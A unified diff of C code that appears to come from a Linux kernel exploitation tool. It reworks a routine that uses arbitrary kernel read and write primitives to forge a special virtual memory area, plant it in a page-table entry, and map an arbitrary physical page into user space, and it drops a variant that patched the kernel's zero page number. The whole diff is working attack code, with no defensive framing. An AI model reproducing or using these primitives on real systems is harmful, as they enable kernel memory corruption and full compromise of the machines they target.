@@ -31,6 +31,7 @@
 
 #define VM_LOCKED	0x2000UL	/* nobody looks for who maps it */
 #define REFERENCES	8
+#define SPECIAL_OPS	"special_mapping_vmops"
 
 /* struct pcpu_chunk, with a vector of memory cgroups ahead of the numbers or without */
 #define CHUNKS		"pcpu_chunk_lists"
@@ -43,8 +44,6 @@
 #define CHUNK_BASE	64
 #define CHUNK_PAGES	112
 #define CHUNK_PAGES_MEMCG 120
-#define SPECIAL_OPS	"special_mapping_vmops"
-
 #define FEW_PAGES	1		/* the kernel maps more of them */
 #define TRIES		10
 #define PAUSE		50000		/* microseconds */
@@ -117,35 +116,22 @@ bool make_special(uint64_t vma, uint64_t phys)
 	       !kwrite64(vma + (data - like), mapping.addr);
 }
 
-/* Of one page, for kernels whose zero page is constant. */
-static uint64_t forge_special_vma(uint64_t addr, uint64_t phys, uint64_t protection)
+/* By a fault that reads, of a special mapping of one page. */
+bool map_address(uint64_t addr, uint64_t phys, uint64_t protection)
 {
-	uint64_t vma = forge_vma((void *)getauxval(AT_SYSINFO_EHDR), addr, protection);
-
-	return make_special(vma, phys) ? vma : 0;
-}
-
-/* By a fault that reads. Of the zero page, whose number is another one meanwhile, if that goes. */
-bool map_address(const volatile void *like, uint64_t addr, uint64_t phys, uint64_t protection)
-{
-	uint64_t zero = ksymbol("zero_pfn"), old = zero ? kread64(zero) : 0, vma, entry;
+	uint64_t vma = forge_vma((void *)getauxval(AT_SYSINFO_EHDR), addr, protection), entry;
 	char byte;
 	struct iovec to = { &byte, 1 }, from = { (void *)addr, 1 };
 	struct task task;
 	struct slot slot;
 
-	if (ktask(0, &task))
+	if (ktask(0, &task) || !make_special(vma, phys))
 		return false;
 	entry = find_empty_entry(task.mm, addr);
-	vma = zero ? forge_vma(like, addr, protection) : forge_special_vma(addr, phys, protection);
-	if (!entry || !vma)
+	if (!entry)
 		return false;
 	kwrite64(entry, vma);
-	if (zero)
-		kwrite64(zero, phys / PAGE_SIZE);
 	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
-	if (zero)
-		kwrite64(zero, old);
 	kwrite64(entry, 0);
 	return !kwalk(addr, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
 }
